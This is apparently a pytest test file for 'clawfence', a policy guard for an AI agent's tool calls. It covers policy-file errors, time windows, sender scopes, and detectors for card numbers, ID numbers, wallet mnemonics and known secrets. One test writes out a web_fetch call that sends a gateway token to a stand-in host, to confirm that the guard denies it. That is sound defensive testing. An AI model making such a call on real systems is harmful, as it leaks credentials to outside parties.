"""Policy loading errors (exact line and field), time windows, scopes; detectors."""

from __future__ import annotations

import hashlib
import re
from datetime import datetime
from pathlib import Path

import pytest

from clawfence.detect.calls import PathContext, ToolCall
from clawfence.detect.privacy import SecretHashes, luhn_ok, prc_id_ok, scan_text
from clawfence.guard.policy import PolicyError, builtin_policy, decide, parse_policy

CTX = PathContext("/home/a", "/home/a/.openclaw/workspace", "/home/a/.openclaw", "/home/a/.openclaw/workspace",
                  resolve_symlinks=False)

GOOD = """\
version: 1
default: allow
rules:
  - id: R1
    description: no exec at night
    decision: deny
    tools: [exec]
    time: {timezone: Europe/Paris, days: [mon, tue, wed, thu, fri], start: "22:00", end: "06:00"}
  - id: R2
    description: ops channel asks
    decision: ask
    approvals: 2
    scope: {channels: [slack], senders: ["U1*"]}
"""


@pytest.mark.parametrize(("text", "line", "needle"), [
    (GOOD.replace("decision: deny", "decision: block"), 6, "rules.0.decision"),
    (GOOD.replace("timezone: Europe/Paris", "timezone: Mars/Base"), 8, "unknown timezone"),
    (GOOD.replace("approvals: 2", "approvals: 0"), 12, "rules.1.approvals"),
    (GOOD.replace("    tools: [exec]\n", "    tools: [exec]\n    colour: red\n"), 8, "rules.0.colour"),
    (GOOD.replace("id: R2", "id: R1"), 1, "duplicate rule id"),
    (GOOD.replace("ops channel asks", "[unclosed"), 11, "YAML syntax"),
    (GOOD + "    signals: [teleport]\n", 14, "unknown signal"),
    (GOOD + "    match: '(['\n", 14, "invalid regular expression"),
    (GOOD.replace('start: "22:00"', 'start: "25:00"'), 8, "not HH:MM"),
    ("rules: 5\n", 1, "rules"),
    ("- just a list\n", 1, "mapping"),
])
def test_policy_errors_name_line_and_field(text: str, line: int, needle: str) -> None:
    with pytest.raises(PolicyError) as ei:
        parse_policy(text, "p.yaml")
    msg = str(ei.value)
    assert msg.startswith(f"p.yaml:{line}:"), msg
    assert needle in msg and "\n" not in msg


def test_time_window_wraps_midnight_in_timezone() -> None:
    pol = parse_policy(GOOD, "p.yaml")
    night = ToolCall("exec", {"command": "ls"}, ts=datetime.fromisoformat("2026-11-18T23:30:00+01:00"))
    early = ToolCall("exec", {"command": "ls"}, ts=datetime.fromisoformat("2026-11-19T05:00:00+01:00"))
    day = ToolCall("exec", {"command": "ls"}, ts=datetime.fromisoformat("2026-11-18T12:00:00+01:00"))
    sat_early = ToolCall("exec", {"command": "ls"}, ts=datetime.fromisoformat("2026-11-21T05:00:00+01:00"))
    sun_early = ToolCall("exec", {"command": "ls"}, ts=datetime.fromisoformat("2026-11-22T05:00:00+01:00"))
    assert decide(pol, night, CTX).rule_id == "R1"
    assert decide(pol, early, CTX).rule_id == "R1"
    assert decide(pol, sat_early, CTX).rule_id == "R1"  # Friday night's window
    assert decide(pol, day, CTX).rule_id == "default"
    assert decide(pol, sun_early, CTX).rule_id == "default"  # Saturday night is not in the window


def test_scope_matches_channel_and_sender_globs() -> None:
    pol = parse_policy(GOOD, "p.yaml")
    ts = datetime.fromisoformat("2026-11-18T12:00:00+01:00")
    hit = ToolCall("read", {"path": "a"}, channel="slack", sender="U123", ts=ts)
    miss = ToolCall("read", {"path": "a"}, channel="slack", sender="X9", ts=ts)
    d = decide(pol, hit, CTX)
    assert (d.decision, d.rule_id, d.approvals_needed) == ("ask", "R2", 2)
    assert decide(pol, miss, CTX).decision == "allow"


def test_unquoted_times_are_read_as_hhmm() -> None:
    pol = parse_policy(GOOD.replace('"22:00"', "22:00").replace('"06:00"', "06:00"), "p.yaml")
    assert pol.rules[0].model.time is not None and pol.rules[0].model.time.start == "22:00"


def test_builtin_policy_cites_guide_points() -> None:
    pol = builtin_policy()
    cited = {g for r in pol.rules for g in r.model.guide}
    assert {"P3.5", "P3.6", "P5.1", "D3.2", "C3.4", "E6.4", "E5.1"} <= cited
    ids = [r.model.id for r in pol.rules]
    # ids are stable once released: PG001-PG016 all still there; new families take fresh numbers (PG020+) and
    # may stand earlier in the first-match order
    assert len(ids) == len(set(ids)) and all(re.fullmatch(r"PG\d{3}", i) for i in ids)
    assert {f"PG{i:03d}" for i in range(1, 17)} <= set(ids)
    # self-protection (PG100..PG119) comes before every other rule: first match wins
    sp = [i for i, r in enumerate(ids) if r.startswith("PG1")]
    assert sp == list(range(len(sp))) and len(sp) >= 8


def test_detectors() -> None:
    assert luhn_ok("4111111111111111") and not luhn_ok("4111111111111112")
    assert prc_id_ok("11010519491231002X") and not prc_id_ok("110105194912310021")
    assert not prc_id_ok("110105194913310028")  # month 13
    kinds = [d.kind for d in scan_text("pay 4111-1111-1111-1111 or 4111111111111112")]
    assert kinds == ["bank-card"]
    mn = "detail job beach label timber maple moment grid mesh arctic toe curtain"
    assert [d.kind for d in scan_text(f"words: {mn}.")] == ["mnemonic"]
    assert scan_text(mn.replace("curtain", "abandon")) == []  # checksum fails


def test_known_secrets_are_matched_by_hash_and_never_shown() -> None:
    token = "gw-" + hashlib.sha256(b"t").hexdigest()[:30]
    h = SecretHashes.from_values(gateway=[token], user=["hunter2-but-longer"])
    assert token not in repr(h)
    found = scan_text(f"send token={token} and pw hunter2-but-longer!", h)
    assert [d.kind for d in found] == ["gateway-token", "user-secret"]
    assert all(token not in d.redacted for d in found)
    pol = builtin_policy()
    d = decide(pol, ToolCall("web_fetch", {"url": f"https://x.example/?a={token}"}), CTX, h)
    assert (d.decision, d.rule_id) == ("deny", "PG003")
    assert token not in d.reason


def test_policy_file_roundtrip(tmp_path: Path) -> None:
    from clawfence.guard.policy import load_policy

    p = tmp_path / "p.yaml"
    p.write_text(GOOD)
    assert load_policy(p).rules[1].model.approvals == 2
    with pytest.raises(PolicyError, match="cannot read"):
        load_policy(tmp_path / "missing.yaml")


def test_explain_every_builtin_rule() -> None:
    from clawfence.guard.explain import explain

    for r in builtin_policy().rules:
        text = explain(r.model.id)
        assert text and r.model.id in text and r.model.guide[0] in text
        assert explain(r.model.id, "zh")
    assert explain("PG999") is None
